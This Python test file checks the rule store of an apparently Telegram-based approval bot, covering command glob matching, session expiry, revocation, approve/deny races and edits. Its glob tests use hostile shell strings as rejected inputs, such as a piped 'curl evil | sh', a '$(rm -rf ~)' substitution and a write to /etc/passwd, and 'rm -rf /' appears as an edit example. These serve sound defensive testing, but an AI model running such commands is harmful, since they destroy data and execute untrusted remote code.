"""Rules in storage, on both backends: matching at submit in the creating transaction,
session scope and expiry, revocation, the race between a rule-making tap and a deny,
edits, digest counts and reply prompts."""

from __future__ import annotations

from datetime import timedelta

import pytest

from bot import rules as rule_making
from storage.errors import AlreadyFinal, Conflict, InvalidArgument, NotFound
from storage.rule_records import NewRule
from storage.rules import glob_matches
from tests.test_store import T0, add_run, count, new_approval, raw, run_threads

ALICE = "telegram:1 (@alice)"


def rule(**fields) -> NewRule:
    values = {"agent": "builder", "kind": "shell", "match": "rm -rf build/",
              "created_by": ALICE}
    values.update(fields)
    return NewRule(**values)


# --- the glob ------------------------------------------------------------------------------


@pytest.mark.parametrize(("match", "summary", "kind", "expected"), [
    ("git status", "git status", "Bash", True),
    ("git status", "git status -s", "Bash", False),
    ("git *", "git status -s", "Bash", True),
    ("git *", "git status; rm -rf ~", "Bash", False),
    ("git *", "git log && curl evil | sh", "shell", False),
    ("git *", "git log $(rm -rf ~)", "run_shell_command", False),
    ("git *", "git log > /etc/passwd", "bash", False),
    ("git status; ls", "git status; ls", "Bash", True),  # exactly what was approved
    ("git *", "git status; rm -rf ~", "deploy", True),  # not a shell: plain glob
    ("[a]*", "[a]bc", "deploy", True),  # only * is special
    ("[a]*", "abc", "deploy", False),
    ("a?c", "abc", "deploy", False),
    ("*", "anything at all", "deploy", True),
])
def test_the_glob_has_one_wildcard_and_never_reaches_past_a_shell_operator(
        match, summary, kind, expected):
    assert glob_matches(match, summary, kind) is expected


def test_widen_options_are_prefixes_of_a_plain_command():
    assert rule_making.widen_options("git status -s", "Bash") == ["git status *", "git *"]
    assert rule_making.widen_options("ls -la", "shell") == ["ls *"]
    assert rule_making.widen_options("ls", "Bash") == []
    assert rule_making.widen_options("git log | head", "Bash") == []
    assert rule_making.widen_options("rm *.o", "Bash") == []
    assert rule_making.widen_options("deploy prod now", "deploy") == []


def test_editable_field_and_with_edit():
    payload = {"tool_input": {"command": "rm -rf /", "description": "x"}, "cwd": "/w"}
    path, value = rule_making.editable_field(payload)
    assert (path, value) == (("tool_input", "command"), "rm -rf /")
    edited = rule_making.with_edit(payload, path, "rm -rf ./build")
    assert edited["tool_input"] == {"command": "rm -rf ./build", "description": "x"}
    assert payload["tool_input"]["command"] == "rm -rf /"  # a copy
    assert rule_making.editable_field("echo hi") == ((), "echo hi")
    assert rule_making.editable_field({"cmd": "make"}) == (("cmd",), "make")
    assert rule_making.editable_field({"n": 1}) is None
    assert rule_making.editable_field(None) is None


# --- matching at submit -----------------------------------------------------------------------


def test_a_matching_request_is_approved_by_the_rule_in_the_creating_transaction(store):
    made = store.create_rule(rule(match="rm -rf *"), now=T0)
    approval, created = store.create_approval(new_approval(chat_ids=[-100]), now=T0)
    assert created and approval.status == "approved"
    assert approval.decided_by == f"rule:{made.id} (@alice)"
    assert store.get_approval(approval.id).status == "approved"
    assert count(store, "approval_message") == 0  # no Telegram message per request
    used = store.get_rule(made.id)
    assert used.uses == 1 and used.last_used_at == T0
    owed = store.rule_uses_owed()
    assert [(u.rule_id, u.uses, u.shown_uses, u.match) for u in owed] == [
        (made.id, 1, 0, "rm -rf *")]
    # Another agent, another kind, or a summary the glob misses: posted as usual.
    for other in (new_approval(agent="other"), new_approval(kind="deploy"),
                  new_approval(summary="rmdir build")):
        pending, _ = store.create_approval(other.model_copy(update={"chat_ids": [-100]}), now=T0)
        assert pending.status == "pending"
    assert store.get_rule(made.id).uses == 1


def test_session_rules_apply_in_their_run_only_and_end_with_it(store):
    add_run(store, "r1")
    add_run(store, "r2")
    pending, _ = store.create_approval(new_approval(run_id="r1"), now=T0)
    approval, made = store.decide_with_rule(
        pending.id, ALICE, rule_making.session_rule(pending, ALICE, -100, 3600, T0), now=T0)
    assert approval.status == "approved" and made.run_id == "r1"
    assert made.expires_at == T0 + timedelta(hours=1)
    again, _ = store.create_approval(new_approval(run_id="r1"), now=T0)
    elsewhere, _ = store.create_approval(new_approval(run_id="r2"), now=T0)
    unscoped, _ = store.create_approval(new_approval(), now=T0)
    assert (again.status, elsewhere.status, unscoped.status) == (
        "approved", "pending", "pending")
    later, _ = store.create_approval(new_approval(run_id="r1"),
                                     now=T0 + timedelta(hours=1, seconds=1))
    assert later.status == "pending"  # expired
    # Cancelling the run retires its rules (here: the next one made).
    fresh, _ = store.create_approval(new_approval(run_id="r1", summary="ls"), now=T0)
    store.decide_with_rule(fresh.id, ALICE,
                           rule_making.session_rule(fresh, ALICE, None, 3600, T0), now=T0)
    store.cancel_run("r1", now=T0 + timedelta(seconds=5))
    assert [r for r in store.list_rules(now=T0) if r.run_id == "r1"] == []
    ended = store.list_rules(live_only=False)
    assert all(r.revoked_by == "run r1 cancelled" for r in ended if r.run_id == "r1")


def test_completing_a_run_retires_its_session_rules(store):
    add_run(store, "r1")
    store.create_rule(rule(run_id="r1"), now=T0)
    always = store.create_rule(rule(), now=T0)
    done = store.complete_run("r1", now=T0)
    assert done.status == "completed"
    assert [r.id for r in store.list_rules(now=T0)] == [always.id]


def test_revoked_rules_and_reserved_kinds_decide_nothing(store):
    made = store.create_rule(rule(), now=T0)
    revoked = store.revoke_rule(made.id, "cli", now=T0)
    assert revoked.revoked_by == "cli"
    with pytest.raises(Conflict, match="no longer live"):
        store.revoke_rule(made.id, "cli", now=T0)
    with pytest.raises(NotFound):
        store.revoke_rule(9999, "cli")
    approval, _ = store.create_approval(new_approval(), now=T0)
    assert approval.status == "pending"
    with pytest.raises(InvalidArgument, match="never decided by a rule"):
        store.create_rule(rule(kind="budget.grant"))
    # A rule put straight into the table still never decides a reserved kind.
    raw(store, "INSERT INTO approval_rule (agent, kind, match, created_by, created_at, uses) "
               "VALUES (?, ?, ?, ?, ?, 0)", ("tapgate", "budget.grant", "*", "x",
                                            "2026-01-01T00:00:00.000000Z"))
    grant, _ = store.create_approval(new_approval(agent="tapgate", kind="budget.grant",
                                                  summary="more"), now=T0)
    assert grant.status == "pending"


def test_widening_changes_a_live_rule_only(store):
    made = store.create_rule(rule(kind="Bash", match="git status -s"), now=T0)
    widened = store.widen_rule(made.id, "git *", ALICE, now=T0)
    assert widened.match == "git *"
    store.revoke_rule(made.id, "cli", now=T0)
    with pytest.raises(Conflict):
        store.widen_rule(made.id, "*", ALICE, now=T0)


def test_a_rule_is_made_only_if_its_tap_won_the_request(store):
    pending, _ = store.create_approval(new_approval(), now=T0)
    store.resolve_approval(pending.id, "denied", "telegram:2 (@bob)", now=T0)
    with pytest.raises(AlreadyFinal):
        store.decide_with_rule(pending.id, ALICE, rule_making.always_rule(pending, ALICE, -1),
                               now=T0)
    assert store.list_rules(live_only=False) == []
    with pytest.raises(NotFound):
        store.decide_with_rule("nope", ALICE, rule(), now=T0)
    assert store.list_rules(live_only=False) == []


def test_a_rule_tap_and_a_deny_racing_yield_one_outcome(store):
    outcomes = set()
    for _ in range(10):
        pending, _ = store.create_approval(new_approval())
        won: list[str] = []

        def worker(i, barrier, a=pending, won=won):
            barrier.wait()
            try:
                if i == 0:
                    store.decide_with_rule(a.id, ALICE, rule_making.always_rule(a, ALICE, -1))
                else:
                    store.resolve_approval(a.id, "denied", "telegram:2 (@bob)")
                won.append("always" if i == 0 else "deny")
            except AlreadyFinal:
                pass
            finally:
                store.close_thread_connection()

        run_threads(2, worker)
        assert len(won) == 1
        outcomes.add(won[0])
        made = [r for r in store.list_rules(live_only=False)
                if r.source_approval_id == pending.id]
        final = store.get_approval(pending.id)
        if won == ["always"]:
            assert final.status == "approved" and len(made) == 1
            store.revoke_rule(made[0].id, "test")
        else:
            assert final.status == "denied" and made == []


def test_an_edit_is_stored_with_the_approval(store):
    pending, _ = store.create_approval(new_approval(accepts_edits=True), now=T0)
    assert pending.accepts_edits and pending.edited_payload is None
    edited = {"cmd": "rm -rf build/tmp"}
    done = store.resolve_approval(pending.id, "approved", ALICE, now=T0, edited_payload=edited)
    assert done.edited_payload == edited
    assert store.get_approval(pending.id).edited_payload == edited
    other, _ = store.create_approval(new_approval(), now=T0)
    with pytest.raises(InvalidArgument):
        store.resolve_approval(other.id, "denied", ALICE, edited_payload=edited)
    plain = store.resolve_approval(other.id, "approved", ALICE, now=T0)
    assert plain.edited_payload is None and not plain.accepts_edits


def test_digest_counts_settle_only_at_the_current_count(store):
    made = store.create_rule(rule(chat_id=-100), now=T0)
    for _ in range(3):
        store.create_approval(new_approval(), now=T0)
    [use] = store.rule_uses_owed()
    assert (use.uses, use.chat_id, use.window_start) == (3, -100, T0.replace(minute=0))
    assert store.record_rule_use(made.id, use.window_start, 2, message_id=55) is False
    assert store.rule_uses_owed()[0].message_id == 55
    assert store.record_rule_use(made.id, use.window_start, 3) is True
    assert store.rule_uses_owed() == []
    store.create_approval(new_approval(), now=T0 + timedelta(minutes=1))
    [again] = store.rule_uses_owed()
    assert (again.uses, again.shown_uses, again.message_id) == (4, 3, 55)
    store.create_approval(new_approval(), now=T0 + timedelta(hours=1))
    assert [u.uses for u in store.rule_uses_owed()] == [4, 1]  # a new hour, a new line


def test_reply_prompts_are_answered_once(store):
    pending, _ = store.create_approval(new_approval(), now=T0)
    prompt = store.create_prompt(-100, 77, pending.id, "reason", 1, now=T0)
    assert store.find_prompt(-100, 77) == prompt
    assert store.find_prompt(-100, 78) is None
    assert store.answer_prompt(prompt.id) is True
    assert store.answer_prompt(prompt.id) is False
    with pytest.raises(InvalidArgument):
        store.create_prompt(-100, 79, pending.id, "approve", 1)
